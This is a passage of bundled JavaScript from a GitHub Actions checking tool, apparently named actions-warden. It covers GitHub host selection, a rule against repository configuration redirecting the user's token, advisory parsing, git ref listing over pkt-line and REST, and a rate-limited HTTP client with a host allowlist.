      const value = isScalar(item.value) ? item.value.value : void 0;
      if (sub !== "server-url" && sub !== "api-url") config.problems.push(`\`github.${sub}\` is not read from the user configuration`);
      else if (typeof value !== "string" || value.trim() === "") config.problems.push(`\`github.${sub}\` must be a URL`);
      else if (sub === "server-url") config.serverUrl = value.trim();
      else config.apiUrl = value.trim();
    }
  }
  return config;
}
function ghHostUrl(host) {
  const trimmed = host.trim();
  if (trimmed === "" || trimmed.length > 253) return null;
  for (const char of trimmed) {
    if (!(char >= "a" && char <= "z" || char >= "A" && char <= "Z" || char >= "0" && char <= "9" || char === "." || char === "-" || char === ":"))
      return null;
  }
  return `https://${trimmed}`;
}
function chooseCliHosts(options, env, userConfig, warn2) {
  if (options.githubServerUrl !== void 0 || options.githubApiUrl !== void 0) {
    const source = options.githubServerUrl !== void 0 ? "--github-server-url" : "--github-api-url";
    return { ...completeHosts(options.githubServerUrl, options.githubApiUrl), source };
  }
  if (env.GITHUB_SERVER_URL || env.GITHUB_API_URL) {
    const source = env.GITHUB_SERVER_URL ? "GITHUB_SERVER_URL" : "GITHUB_API_URL";
    return { ...completeHosts(env.GITHUB_SERVER_URL, env.GITHUB_API_URL), source };
  }
  if (env.GH_HOST) {
    const server = ghHostUrl(env.GH_HOST);
    if (server) return { ...completeHosts(server, void 0), source: "GH_HOST" };
    warn2("GH_HOST is not a host name (such as ghe.example.com) and is not used");
  }
  if (userConfig) {
    for (const problem of userConfig.problems) warn2(`${userConfig.path}: ${problem}`);
    if (userConfig.serverUrl !== void 0 || userConfig.apiUrl !== void 0) {
      return { ...completeHosts(userConfig.serverUrl, userConfig.apiUrl), source: userConfig.path };
    }
  }
  return { serverUrl: PUBLIC_SERVER_URL, apiUrl: PUBLIC_API_URL, source: "the default" };
}
function originOf(raw) {
  try {
    const url = new URL(raw.trim());
    return url.protocol === "http:" || url.protocol === "https:" ? url.origin : null;
  } catch {
    return null;
  }
}
function hostOf(raw) {
  try {
    return new URL(raw.trim()).host.toLowerCase();
  } catch {
    return "";
  }
}
function refusedRepositoryHosts(config, choice) {
  const problems = [];
  const chosen = new Set([originOf(choice.serverUrl), originOf(choice.apiUrl)].filter((origin) => origin !== null));
  const chosenHosts = /* @__PURE__ */ new Set([hostOf(choice.serverUrl), hostOf(choice.apiUrl), "github.com", "api.github.com"]);
  const using = choice.source === "the default" ? `public GitHub (${choice.serverUrl})` : `${displayUrl(choice.serverUrl)} (from ${choice.source})`;
  const why = (what, shown, flag) => `\`${what}\` names ${shown}, which you have not chosen: a repository's configuration cannot decide where your GitHub token is sent, so nothing is sent there and online checks use ${using}. To use this host, confirm it with \`${flag}\` (or GITHUB_SERVER_URL / GITHUB_API_URL, or your user configuration).`;
  const check = (what, value, span, flag) => {
    if (value === void 0 || !span) return;
    const origin = originOf(value);
    if (origin !== null && chosen.has(origin)) return;
    const shown = origin !== null ? displayUrl(value) : `\`${displayUrl(value)}\``;
    problems.push({ span, level: "error", message: why(what, shown, `${flag} ${origin !== null ? displayUrl(value) : "<url>"}`) });
  };
  check("github.server-url", config.githubServerUrl, config.githubSpans?.serverUrl, "--github-server-url");
  check("github.api-url", config.githubApiUrl, config.githubSpans?.apiUrl, "--github-api-url");
  config.githubHosts.forEach((host, index) => {
    const span = config.githubSpans?.hosts[index];
    const name = host.trim().toLowerCase();
    if (!span || chosenHosts.has(name)) return;
    const safe = ghHostUrl(name) !== null ? name : "(an invalid host name)";
    problems.push({
      span,
      level: "error",
      message: `\`github.hosts\` names ${safe}, which you have not chosen: a repository's configuration cannot decide where your GitHub token is sent, so nothing is sent there and online checks use ${using}. To use this host, confirm it with \`--github-server-url https://${safe}\` (or GITHUB_SERVER_URL / GH_HOST, or your user configuration).`
    });
  });
  return problems;
}

// server/src/resolve/cache.ts
var import_node_crypto3 = require("node:crypto");
var import_node_fs8 = require("node:fs");
var import_node_os = require("node:os");
var import_node_path7 = require("node:path");
var FORMAT = 1;
var TtlCache = class {
  constructor(dir, now = Date.now) {
    this.dir = dir;
    this.now = now;
  }
  dir;
  now;
  memory = /* @__PURE__ */ new Map();
  get(key, ttlMs) {
    const inMemory = this.memory.get(key);
    if (inMemory && this.now() - inMemory.storedAt < ttlMs) return inMemory.value;
    if (!this.dir) return void 0;
    try {
      const stored = JSON.parse((0, import_node_fs8.readFileSync)(this.file(key), "utf8"));
      if (stored.format !== FORMAT || stored.key !== key || typeof stored.storedAt !== "number") return void 0;
      if (this.now() - stored.storedAt >= ttlMs || stored.storedAt > this.now() + 6e4) return void 0;
      this.memory.set(key, { storedAt: stored.storedAt, value: stored.value });
      return stored.value;
    } catch {
      return void 0;
    }
  }
  set(key, value, persist = true) {
    const stored = { storedAt: this.now(), value };
    this.memory.set(key, stored);
    if (!this.dir || !persist) return;
    try {
      (0, import_node_fs8.mkdirSync)(this.dir, { recursive: true });
      const file = this.file(key);
      const temporary = `${file}.${process.pid}.${Math.random().toString(36).slice(2)}.tmp`;
      (0, import_node_fs8.writeFileSync)(temporary, JSON.stringify({ format: FORMAT, key, ...stored }));
      (0, import_node_fs8.renameSync)(temporary, file);
    } catch {
    }
  }
  clearMemory() {
    this.memory.clear();
  }
  file(key) {
    return (0, import_node_path7.join)(this.dir, `${(0, import_node_crypto3.createHash)("sha256").update(key).digest("hex").slice(0, 32)}.json`);
  }
};
function defaultCliCacheDir(env = process.env) {
  if (env.XDG_CACHE_HOME && (0, import_node_path7.isAbsolute)(env.XDG_CACHE_HOME)) return (0, import_node_path7.join)(env.XDG_CACHE_HOME, "actions-warden");
  if (process.platform === "win32" && env.LOCALAPPDATA && (0, import_node_path7.isAbsolute)(env.LOCALAPPDATA))
    return (0, import_node_path7.join)(env.LOCALAPPDATA, "actions-warden", "cache");
  return (0, import_node_path7.join)((0, import_node_os.homedir)(), ".cache", "actions-warden");
}

// server/src/resolve/advisories.ts
var GHSA_RE = /^GHSA(-[23456789cfghjmpqrvwx]{4}){3}$/;
var CVE_RE = /^CVE-\d{4}-\d{4,}$/;
var VERSION_RE3 = /^v?\d+(?:\.\d+){0,3}(?:-[0-9A-Za-z.-]+)?$/;
function parseVersionRange(text) {
  if (typeof text !== "string") return null;
  const parts = text.split(",").map((part) => part.trim()).filter((part) => part !== "");
  if (parts.length === 0 || parts.length > 2) return null;
  const range = {};
  for (const part of parts) {
    const match = /^(>=|<=|>|<|=|==)?\s*(\S+)$/.exec(part);
    if (!match || !VERSION_RE3.test(match[2])) return null;
    const version2 = match[2];
    switch (match[1] ?? "=") {
      case ">=":
        if (range.introduced !== void 0) return null;
        range.introduced = version2;
        break;
      case ">":
        if (range.introduced !== void 0) return null;
        range.introduced = version2;
        range.introducedExclusive = true;
        break;
      case "<":
        if (range.fixed !== void 0 || range.lastAffected !== void 0) return null;
        range.fixed = version2;
        break;
      case "<=":
        if (range.fixed !== void 0 || range.lastAffected !== void 0) return null;
        range.lastAffected = version2;
        break;
      default:
        if (parts.length !== 1) return null;
        range.introduced = version2;
        range.lastAffected = version2;
    }
  }
  return [range];
}
function severityOf(value) {
  if (value === "critical" || value === "high") return "high";
  if (value === "low") return "low";
  return "medium";
}
var isRecord = (value) => typeof value === "object" && value !== null && !Array.isArray(value);
function parseAdvisories(body, owner, repo) {
  if (!Array.isArray(body)) return fail("malformed", `the advisory database sent a malformed answer for ${owner}/${repo}`);
  const repository = `${owner}/${repo}`.toLowerCase();
  const found = [];
  for (const item of body) {
    if (!isRecord(item)) continue;
    const ghsa = item.ghsa_id;
    if (typeof ghsa !== "string" || !GHSA_RE.test(ghsa)) continue;
    if (item.withdrawn_at !== null && item.withdrawn_at !== void 0) continue;
    const cve = typeof item.cve_id === "string" && CVE_RE.test(item.cve_id) ? item.cve_id : void 0;
    const url = typeof item.html_url === "string" && /^https:\/\/\S+$/.test(item.html_url) ? item.html_url : void 0;
    const summary = typeof item.summary === "string" && item.summary.trim() !== "" ? item.summary.trim().replace(/\s+/g, " ").slice(0, 200) : "a published advisory";
    if (!Array.isArray(item.vulnerabilities)) continue;
    for (const vulnerability of item.vulnerabilities) {
      if (!isRecord(vulnerability) || !isRecord(vulnerability.package)) continue;
      const ecosystem = vulnerability.package.ecosystem;
      const name = vulnerability.package.name;
      if (ecosystem !== void 0 && ecosystem !== "actions" || typeof name !== "string") continue;
      const packageName = name.trim().toLowerCase();
      if (packageName !== repository && !packageName.startsWith(`${repository}/`)) continue;
      const ranges = parseVersionRange(vulnerability.vulnerable_version_range);
      if (!ranges) continue;
      const patched = vulnerability.first_patched_version;
      const patchedText = typeof patched === "string" ? patched : isRecord(patched) && typeof patched.identifier === "string" ? patched.identifier : void 0;
      const advisory = {
        ghsa,
        severity: severityOf(item.severity),
        summary,
        packageName,
        rangeText: vulnerability.vulnerable_version_range.trim(),
        ranges
      };
      if (cve) advisory.cve = cve;
      if (url) advisory.url = url;
      if (patchedText && VERSION_RE3.test(patchedText.trim())) advisory.firstPatched = patchedText.trim();
      found.push(advisory);
    }
  }
  return ok(found);
}
async function fetchAdvisories(http, owner, repo) {
  const path = `/advisories?ecosystem=actions&affects=${encodeURIComponent(`${owner}/${repo}`)}&per_page=100`;
  const response = await http.request("api", path, {
    auth: "bearer",
    headers: { Accept: "application/vnd.github+json", "X-GitHub-Api-Version": "2022-11-28" }
  });
  if (!response.ok) return response;
  let body;
  try {
    body = JSON.parse(new TextDecoder().decode(response.value.body));
  } catch {
    return fail("malformed", `${http.api.host} sent malformed JSON for the advisories of ${owner}/${repo}`);
  }
  return parseAdvisories(body, owner, repo);
}

// server/src/resolve/pkt-line.ts
var MAX_PACKET = 65520;
var encoder = new TextEncoder();
function encodeLine(line) {
  const length = encoder.encode(line).length + 4;
  if (length > MAX_PACKET) throw new RangeError("pkt-line too long");
  return length.toString(16).padStart(4, "0") + line;
}
var FLUSH = "0000";
var DELIM = "0001";
function decodePackets(buffer) {
  const packets = [];
  let offset = 0;
  const ascii = new TextDecoder("ascii");
  while (offset < buffer.length) {
    if (offset + 4 > buffer.length) throw new Error("truncated pkt-line header");
    const header = ascii.decode(buffer.subarray(offset, offset + 4));
    if (!/^[0-9a-f]{4}$/i.test(header)) throw new Error(`invalid pkt-line length ${JSON.stringify(header)}`);
    const length = parseInt(header, 16);
    if (length === 0) packets.push({ type: "flush" });
    else if (length === 1) packets.push({ type: "delim" });
    else if (length === 2) packets.push({ type: "response-end" });
    else if (length < 4 || length > MAX_PACKET) throw new Error(`invalid pkt-line length ${length}`);
    else {
      if (offset + length > buffer.length) throw new Error("truncated pkt-line");
      packets.push({ type: "data", data: buffer.subarray(offset + 4, offset + length) });
    }
    offset += length < 4 ? 4 : length;
  }
  return packets;
}
function dataLines(packets) {
  const decoder2 = new TextDecoder();
  return packets.filter((p) => p.type === "data").map((p) => decoder2.decode(p.data).replace(/\n$/, ""));
}

// server/src/resolve/ref-listing.ts
var ConflictingRefError = class extends Error {
  constructor(ref2, first, second) {
    super(`${quote(ref2)} is listed twice with different values (${first} and ${second})`);
    this.ref = ref2;
    this.first = first;
    this.second = second;
    this.name = "ConflictingRefError";
  }
  ref;
  first;
  second;
};
var RefListing = class {
  seen = /* @__PURE__ */ new Map();
  /**
   * Records `ref` (its full name) with `value` (what it names: object, peeled object, symref target).
   * True when new; false when already listed with the same value (skip it); throws ConflictingRefError
   * when already listed with another value.
   */
  add(ref2, value) {
    const previous = this.seen.get(ref2);
    if (previous === void 0) {
      this.seen.set(ref2, value);
      return true;
    }
    if (previous === value) return false;
    throw new ConflictingRefError(ref2, previous, value);
  }
};
function quote(text) {
  const short2 = text.length > 100 ? `${text.slice(0, 100)}…` : text;
  return JSON.stringify(short2).replace(/[\u007f-\u009f\u2028\u2029]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`);
}

// server/src/resolve/git-transport.ts
function lsRefsRequestBody() {
  return encodeLine("command=ls-refs\n") + encodeLine("object-format=sha1\n") + DELIM + encodeLine("peel\n") + encodeLine("symrefs\n") + encodeLine("ref-prefix HEAD\n") + encodeLine("ref-prefix refs/heads/\n") + encodeLine("ref-prefix refs/tags/\n") + FLUSH;
}
function parseLsRefs(repository, body, now) {
  const lines = dataLines(decodePackets(body));
  const tags = [];
  const branches = [];
  const listing = new RefListing();
  let defaultBranch = null;
  for (const line of lines) {
    if (line.startsWith("ERR ")) throw new Error(`server error: ${line.slice(4)}`);
    const [oid, name, ...attributes] = line.split(" ");
    if (!FULL_SHA_RE.test(oid ?? "") || !name) throw new Error(`unexpected ls-refs line ${JSON.stringify(line.slice(0, 80))}`);
    let peeled;
    let symref;
    for (const attribute of attributes) {
      if (attribute.startsWith("peeled:")) peeled = attribute.slice("peeled:".length);
      else if (attribute.startsWith("symref-target:")) symref = attribute.slice("symref-target:".length);
    }
    if (peeled !== void 0 && !FULL_SHA_RE.test(peeled)) throw new Error(`invalid peeled object in ${JSON.stringify(line.slice(0, 80))}`);
    if (!listing.add(name, `${oid}${peeled ? ` peeled:${peeled}` : ""}${symref !== void 0 ? ` symref-target:${symref}` : ""}`)) continue;
    if (name === "HEAD") {
      if (symref?.startsWith("refs/heads/")) defaultBranch = symref.slice("refs/heads/".length);
    } else if (name.startsWith("refs/tags/")) {
      const tag = name.slice("refs/tags/".length);
      tags.push(peeled ? { name: tag, kind: "tag", commit: peeled, tagObject: oid } : { name: tag, kind: "tag", commit: oid });
    } else if (name.startsWith("refs/heads/")) {
      branches.push({ name: name.slice("refs/heads/".length), kind: "branch", commit: oid });
    }
  }
  return { repository: repository.toLowerCase(), tags, branches, defaultBranch, fetchedAt: now };
}
async function lsRefs(http, owner, repo, now) {
  const path = `/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}.git/git-upload-pack`;
  const response = await http.request("server", path, {
    method: "POST",
    auth: "basic",
    headers: {
      "Content-Type": "application/x-git-upload-pack-request",
      Accept: "application/x-git-upload-pack-result",
      "Git-Protocol": "version=2"
    },
    body: lsRefsRequestBody()
  });
  if (!response.ok) {
    if (response.error.kind === "not-found")
      return fail("not-found", `${owner}/${repo} was not found on ${http.server.host} (or it is private and no token was given)`);
    return response;
  }
  try {
    return ok(parseLsRefs(`${owner}/${repo}`, response.value.body, now));
  } catch (error) {
    if (error instanceof ConflictingRefError) {
      return fail(
        "inconsistent",
        `${http.server.host} sent a contradictory ref listing for ${owner}/${repo}: ${error.message}; nothing from it is used (no pin)`
      );
    }
    return fail(
      "malformed",
      `${http.server.host} sent a malformed ref listing for ${owner}/${repo}: ${error instanceof Error ? error.message : String(error)}`
    );
  }
}

// server/src/resolve/body.ts
var BodyTooLargeError = class extends Error {
  constructor(limit, announced) {
    super(
      announced !== void 0 ? `response too large: ${announced} bytes announced, the limit is ${limit}` : `response too large: more than ${limit} bytes`
    );
    this.limit = limit;
    this.announced = announced;
    this.name = "BodyTooLargeError";
  }
  limit;
  announced;
};
function announcedOverLimit(response, limit) {
  const header = response.headers.get("content-length");
  if (header === null || !/^\s*\d+\s*$/.test(header)) return void 0;
  const length = Number(header);
  return length > limit ? length : void 0;
}
async function streamBody(response, limit, signal, onChunk) {
  const announced = announcedOverLimit(response, limit);
  if (announced !== void 0) {
    void cancelQuietly(response.body);
    throw new BodyTooLargeError(limit, announced);
  }
  if (!response.body) return 0;
  const reader = response.body.getReader();
  let onAbort;
  const aborted = new Promise((_, reject) => {
    onAbort = () => reject(signal.reason ?? new Error("aborted"));
    if (signal.aborted) onAbort();
    else signal.addEventListener("abort", onAbort, { once: true });
  });
  aborted.catch(() => void 0);
  let bytes = 0;
  try {
    for (; ; ) {
      const { done, value } = await Promise.race([reader.read(), aborted]);
      if (done) return bytes;
      bytes += value.byteLength;
      if (bytes > limit) throw new BodyTooLargeError(limit);
      onChunk(value);
    }
  } catch (error) {
    void reader.cancel().catch(() => void 0);
    throw error;
  } finally {
    if (onAbort) signal.removeEventListener("abort", onAbort);
  }
}
async function readBodyLimited(response, limit, signal) {
  const chunks = [];
  const total = await streamBody(response, limit, signal, (chunk) => void chunks.push(chunk));
  if (chunks.length === 1) return chunks[0];
  const body = new Uint8Array(total);
  let offset = 0;
  for (const chunk of chunks) {
    body.set(chunk, offset);
    offset += chunk.byteLength;
  }
  return body;
}
async function cancelQuietly(body) {
  try {
    await body?.cancel();
  } catch {
  }
}

// server/src/resolve/http.ts
var LOOPBACK = /* @__PURE__ */ new Set(["127.0.0.1", "localhost", "[::1]", "::1"]);
var MAX_REDIRECTS = 3;
var DEFAULT_MAX_BODY_BYTES = 32 * 1024 * 1024;
var DEFAULT_TIMEOUT_MS = 1e4;
var DEFAULT_HOST_COOLDOWN_MS = 3e4;
function checkBaseUrl(raw, what) {
  let url;
  try {
    url = new URL(raw);
  } catch {
    return fail("invalid", `${what} \`${displayUrl(raw)}\` is not a URL`);
  }
  if (url.username || url.password) {
    return fail(
      "invalid",
      `${what} \`${displayUrl(raw)}\` contains credentials, which are refused: give the token through the token setting or GITHUB_TOKEN instead`
    );
  }
  if (url.protocol === "http:" && !LOOPBACK.has(url.hostname)) {
    return fail("host-not-allowed", `${what} \`${url.origin}\` uses plain http://, which is only accepted for loopback hosts`);
  }
  if (url.protocol !== "https:" && url.protocol !== "http:") return fail("invalid", `${what} must be an https:// URL`);
  url.pathname = trimEndOf(url.pathname, "/");
  url.search = "";
  url.hash = "";
  return ok(url);
}
var HttpClient = class _HttpClient {
  server;
  api;
  allowedOrigins;
  token;
  timeoutMs;
  fetchImpl;
  now;
  log;
  userAgent;
  limit;
  maxBodyBytes;
  cooldownMs;
  onHostStatus;
  /** Hosts (by origin) that are not answering. */
  outages = /* @__PURE__ */ new Map();
  active = 0;
  queue = [];
  /** Per origin: no request before this time (epoch ms). */
  blockedUntil = /* @__PURE__ */ new Map();
  /** Number of requests sent, by origin + path (tests and diagnostics). */
  requestCount = /* @__PURE__ */ new Map();
  constructor(server, api, options) {
    this.server = server;
    this.api = api;
    this.allowedOrigins = /* @__PURE__ */ new Set([server.origin, api.origin]);
    this.token = options.token && options.token.trim() !== "" ? options.token.trim() : void 0;
    this.timeoutMs = options.timeoutMs ?? DEFAULT_TIMEOUT_MS;
    this.maxBodyBytes = options.maxBodyBytes ?? DEFAULT_MAX_BODY_BYTES;
    this.cooldownMs = options.hostCooldownMs ?? DEFAULT_HOST_COOLDOWN_MS;
    this.onHostStatus = options.onHostStatus ?? (() => void 0);
    this.limit = Math.max(1, options.concurrency ?? 4);
    this.fetchImpl = options.fetch ?? fetch;
    this.now = options.now ?? Date.now;
    this.log = options.log ?? (() => void 0);
    this.userAgent = options.userAgent ?? "actions-warden";
  }
  static create(options) {
    const server = checkBaseUrl(options.serverUrl, "GitHub server URL");
    if (!server.ok) return server;
    const api = checkBaseUrl(options.apiUrl, "GitHub API URL");
    if (!api.ok) return api;
    return ok(new _HttpClient(server.value, api.value, options));
  }
  get hasToken() {
    return this.token !== void 0;
  }
  /** When the origin of `target` may be asked again (epoch ms), or 0. */
  blockedUntilFor(target) {
    return this.blockedUntil.get((target === "server" ? this.server : this.api).origin) ?? 0;
  }
  /** `path` is appended to the base's path; it must already be percent-encoded. */
  async request(target, path, init) {
    const base2 = target === "server" ? this.server : this.api;
    let url = new URL(trimEndOf(base2.href, "/") + path);
    const blocked = this.blockedUntil.get(url.origin) ?? 0;
    if (blocked > this.now()) return fail("rate-limited", rateLimitMessage(url.origin, blocked), blocked);
    const early = this.outageError(url);
    if (early) return early;
    await this.acquire();
    try {
      for (let hop = 0; ; hop++) {
        if (!this.allowedOrigins.has(url.origin)) {
          this.log(`refused a request to ${url.origin}: not a configured GitHub host`);
          return fail("host-not-allowed", `${url.origin} is not a configured GitHub host; nothing was sent to it`);
        }
        const admitted = this.admit(url);
        if (!admitted.ok) return admitted;
        const response = await this.send(url, init);
        if (!response.ok && (response.error.kind === "timeout" || response.error.kind === "network")) {
          this.hostFailed(url, response.error.message, admitted.value);
          return response;
        }
        this.hostAnswered(url);
        if (!response.ok) return response;
        const { status, headers } = response.value;
        if (status >= 300 && status < 400 && headers.get("location") && hop < MAX_REDIRECTS) {
          url = new URL(headers.get("location"), url);
          continue;
        }
        return this.interpret(url, response.value);
      }
    } finally {
      this.release();
    }
  }
  /** The error of a request to a host in an outage, or null when it may be sent. */
  outageError(url) {
    const outage = this.outages.get(url.origin);
    if (!outage || !outage.probing && outage.openUntil <= this.now()) return null;
    const when = outage.probing ? "a retry is under way" : `it is tried again after ${new Date(outage.openUntil).toISOString()}`;
    return fail("host-down", `not sent: ${url.host} is not answering (${outage.reason}); ${when}`);
  }
  /** Whether a request may go to the host now; `true` when it is the one probe after a cool-down. */
  admit(url) {
    const refused = this.outageError(url);
    if (refused) return refused;
    const outage = this.outages.get(url.origin);
    if (!outage) return ok(false);
    outage.probing = true;
    return ok(true);
  }
  hostFailed(url, reason, probe) {
    const openUntil = this.now() + this.cooldownMs;
    const outage = this.outages.get(url.origin);
    if (outage) {
      outage.openUntil = Math.max(outage.openUntil, openUntil);
      if (probe) outage.probing = false;
      return;
    }
    this.outages.set(url.origin, { openUntil, probing: false, reason: shortReason(reason, url.host) });
    const message = `${url.host} is not answering (${shortReason(reason, url.host)}): requests to it fail at once until ${new Date(openUntil).toISOString()}, then one is tried again`;
    this.log(message);
    this.onHostStatus({ state: "down", origin: url.origin, host: url.host, message, retryAt: openUntil });
  }
  hostAnswered(url) {
    if (!this.outages.delete(url.origin)) return;
    const message = `${url.host} answers again`;
    this.log(message);
    this.onHostStatus({ state: "up", origin: url.origin, host: url.host, message });
  }
  async send(url, init) {
    const headers = { "User-Agent": this.userAgent, ...init.headers };
    if (this.token) {
      headers.Authorization = init.auth === "basic" ? `Basic ${Buffer.from(`x-access-token:${this.token}`).toString("base64")}` : `Bearer ${this.token}`;
    }
    const key = url.origin + url.pathname;
    this.requestCount.set(key, (this.requestCount.get(key) ?? 0) + 1);
    const started = this.now();
    const method = init.method ?? "GET";
    const controller = new AbortController();
    let timedOut = false;
    const timer = setTimeout(() => {
      timedOut = true;
      controller.abort(new Error(`no complete answer within ${this.timeoutMs} ms`));
    }, this.timeoutMs);
    try {
      const response = await this.fetchImpl(url, { method, headers, body: init.body, redirect: "manual", signal: controller.signal });
      const body = await readBodyLimited(response, this.maxBodyBytes, controller.signal);
      this.log(`${method} ${url.origin}${url.pathname} → ${response.status} (${this.now() - started} ms)`);
      return ok({ status: response.status, headers: response.headers, body });
    } catch (error) {
      controller.abort(error);
      if (error instanceof BodyTooLargeError) {
        this.log(`${method} ${url.origin}${url.pathname}: ${error.message}; the request was aborted`);
        return fail(
          "too-large",
          `${url.host} sent a response too large for ${url.pathname} (${error.announced !== void 0 ? `${error.announced} bytes announced` : `more than ${error.limit} bytes`}; the limit is ${error.limit}): it was aborted and not used`
        );
      }
      const name = error instanceof Error ? error.name : "";
      if (timedOut || name === "TimeoutError" || name === "AbortError") {
        return fail("timeout", `${url.host} did not answer within ${this.timeoutMs} ms`);
      }
      const message = error instanceof Error ? error.cause?.message ?? error.message : String(error);
      return fail("network", `could not reach ${url.host}: ${this.redact(message)}`);
    } finally {
      clearTimeout(timer);
    }
  }
  interpret(url, response) {
    const { status, headers } = response;
    if (status >= 200 && status < 300) return ok(response);
    const remaining = headers.get("x-ratelimit-remaining");
    const retryAfter = headers.get("retry-after");
    if (status === 429 || status === 403 && (remaining === "0" || retryAfter !== null)) {
      const retryAt = this.retryTime(headers);
      this.blockedUntil.set(url.origin, retryAt);
      const message = rateLimitMessage(url.origin, retryAt) + (this.token ? "" : "; a token (actionsWarden.github.token, GITHUB_TOKEN) raises the limit");
      this.log(message);
      return fail("rate-limited", message, retryAt);
    }
    if (status === 404) return fail("not-found", `${url.host} answered 404 for ${url.pathname}`);
    if (status === 401) return fail("http", `${url.host} rejected the token (401)`);
    if (status === 403) return fail("http", `${url.host} refused access (403)${this.token ? "" : "; a token may be needed"}`);
    return fail("http", `${url.host} answered ${status} for ${url.pathname}`);
  }
  retryTime(headers) {
    const now = this.now();
    const retryAfter = headers.get("retry-after");
    if (retryAfter) {
      const seconds = Number(retryAfter);
      if (Number.isFinite(seconds)) return now + Math.max(1, seconds) * 1e3;
      const date = Date.parse(retryAfter);
      if (Number.isFinite(date)) return Math.max(now + 1e3, date);
    }
    const reset = Number(headers.get("x-ratelimit-reset"));
    if (Number.isFinite(reset) && reset > 0) return Math.max(now + 1e3, reset * 1e3);
    return now + 6e4;
  }
  redact(text) {
    return this.token ? text.split(this.token).join("***") : text;
  }
  acquire() {
    if (this.active < this.limit) {
      this.active++;
      return Promise.resolve();
    }
    return new Promise((resolve3) => this.queue.push(() => resolve3()));
  }
  release() {
    const next = this.queue.shift();
    if (next) next();
    else this.active--;
  }
};
function rateLimitMessage(origin, retryAt) {
  return `GitHub rate limit reached at ${origin}: backing off until ${new Date(retryAt).toISOString()}`;
}
function shortReason(message, host) {
  const reason = message.replace(`${host} did not answer`, "no answer").replace(`could not reach ${host}: `, "");
  return reason.length > 120 ? `${reason.slice(0, 120)}…` : reason;
}

// server/src/resolve/rest-transport.ts
var JSON_ACCEPT = "application/vnd.github+json";
var MAX_PEEL_DEPTH = 8;
function repoPath(owner, repo) {
  return `/repos/${encodeURIComponent(owner)}/${encodeURIComponent(repo)}`;
}
function encodeRef(ref2) {
  return ref2.split("/").map(encodeURIComponent).join("/");
}
async function getJson(http, path) {
  const response = await http.request("api", path, {
    auth: "bearer",
    headers: { Accept: JSON_ACCEPT, "X-GitHub-Api-Version": "2022-11-28" }
  });
  if (!response.ok) return response;
  try {
    return ok(JSON.parse(new TextDecoder().decode(response.value.body)));
  } catch {
    return fail("malformed", `${http.api.host} sent malformed JSON for ${path}`);
  }
}
async function commitSha(http, owner, repo, ref2) {
  const response = await http.request("api", `${repoPath(owner, repo)}/commits/${encodeRef(ref2)}`, {
    auth: "bearer",
    headers: { Accept: "application/vnd.github.sha", "X-GitHub-Api-Version": "2022-11-28" }
  });
  if (!response.ok) {
    if (response.error.kind === "not-found") return fail("not-found", `\`${ref2}\` is not a ref or commit of ${owner}/${repo}`);
    return response;
  }
  const sha = new TextDecoder().decode(response.value.body).trim();
  if (!FULL_SHA_RE.test(sha)) return fail("malformed", `${http.api.host} did not answer a commit SHA for ${owner}/${repo}@${ref2}`);
  return ok(sha);
}
async function peelTag(http, owner, repo, tagSha) {
  let sha = tagSha;
  for (let depth = 0; depth < MAX_PEEL_DEPTH; depth++) {
    const body = await getJson(http, `${repoPath(owner, repo)}/git/tags/${sha}`);
    if (!body.ok) return body;
    const object = body.value.object;
    if (!object || typeof object.type !== "string" || typeof object.sha !== "string" || !FULL_SHA_RE.test(object.sha)) {
      return fail("malformed", `${http.api.host} sent a malformed tag object ${sha}`);
    }
    if (object.type !== "tag") return ok({ type: object.type, sha: object.sha });
    sha = object.sha;
  }
  return fail("malformed", `tag chain from ${tagSha} is deeper than ${MAX_PEEL_DEPTH}`);
}
async function listRefsRest(http, owner, repo, now) {
  const tags = [];
  const branches = [];
  const listing = new RefListing();
  for (const prefix of ["tags", "heads"]) {
    const body = await getJson(http, `${repoPath(owner, repo)}/git/matching-refs/${prefix}`);
    if (!body.ok) return body;
    if (!Array.isArray(body.value)) return fail("malformed", `${http.api.host} sent a malformed ref list for ${owner}/${repo}`);
    for (const item of body.value) {
      const ref2 = item?.ref;
      const type = item?.object?.type;
      const sha = item?.object?.sha;
      if (typeof ref2 !== "string" || typeof type !== "string" || typeof sha !== "string" || !FULL_SHA_RE.test(sha)) {
        return fail("malformed", `${http.api.host} sent a malformed ref for ${owner}/${repo}`);
      }
      try {
        if (!listing.add(ref2, `${type} ${sha}`)) continue;
      } catch (error) {
        if (!(error instanceof ConflictingRefError)) throw error;
        return fail(
          "inconsistent",
          `${http.api.host} sent a contradictory ref list for ${owner}/${repo}: ${error.message}; nothing from it is used (no pin)`
        );
      }
      if (prefix === "heads") {
        branches.push({ name: ref2.replace(/^refs\/heads\//, ""), kind: "branch", commit: sha });
        continue;
      }
      const name = ref2.replace(/^refs\/tags\//, "");
      if (type === "commit") tags.push({ name, kind: "tag", commit: sha });
      else if (type === "tag") {
        const peeled = await peelTag(http, owner, repo, sha);
        if (!peeled.ok) return peeled;
        if (peeled.value.type === "commit") tags.push({ name, kind: "tag", commit: peeled.value.sha, tagObject: sha });
      }
    }
  }
  return ok({ repository: `${owner}/${repo}`.toLowerCase(), tags, branches, defaultBranch: null, fetchedAt: now });
}
async function compare2(http, owner, repo, base2, head) {
  const body = await getJson(http, `${repoPath(owner, repo)}/compare/${encodeRef(base2)}...${encodeRef(head)}?per_page=1`);
  if (!body.ok) return body;
  const status = body.value.status;
  if (status === "identical" || status === "behind" || status === "ahead" || status === "diverged") return ok(status);
  return fail("malformed", `${http.api.host} sent a malformed comparison for ${owner}/${repo}`);
}

// server/src/resolve/resolver.ts
var DEFAULT_SERVER_URL = "https://github.com";
var DEFAULT_API_URL = "https://api.github.com";
var MEMBERSHIP_TTL = 24 * 60 * 60 * 1e3;
var GitHubResolver = class {
  offline;
  /** Why the resolver cannot make requests (bad configuration), or null. */
  configurationError;
  http;
  cache;
  now;
  ttlMs;
  negativeTtlMs;
  maxComparisons;
  advisoryTtlMs;
  inflight = /* @__PURE__ */ new Map();
  failures = /* @__PURE__ */ new Map();
  hostKey;
  constructor(options = {}) {
    this.offline = options.offline === true;
    this.now = options.now ?? Date.now;
    this.ttlMs = options.ttlMs ?? 15 * 60 * 1e3;
    this.negativeTtlMs = options.negativeTtlMs ?? 60 * 1e3;
    this.maxComparisons = options.maxComparisons ?? 30;
    this.advisoryTtlMs = options.advisoryTtlMs ?? 6 * 60 * 60 * 1e3;
    this.cache = new TtlCache(options.cacheDir ?? null, this.now);
    const created = HttpClient.create({
      ...options,
      serverUrl: options.serverUrl || DEFAULT_SERVER_URL,
      apiUrl: options.apiUrl || DEFAULT_API_URL
    });
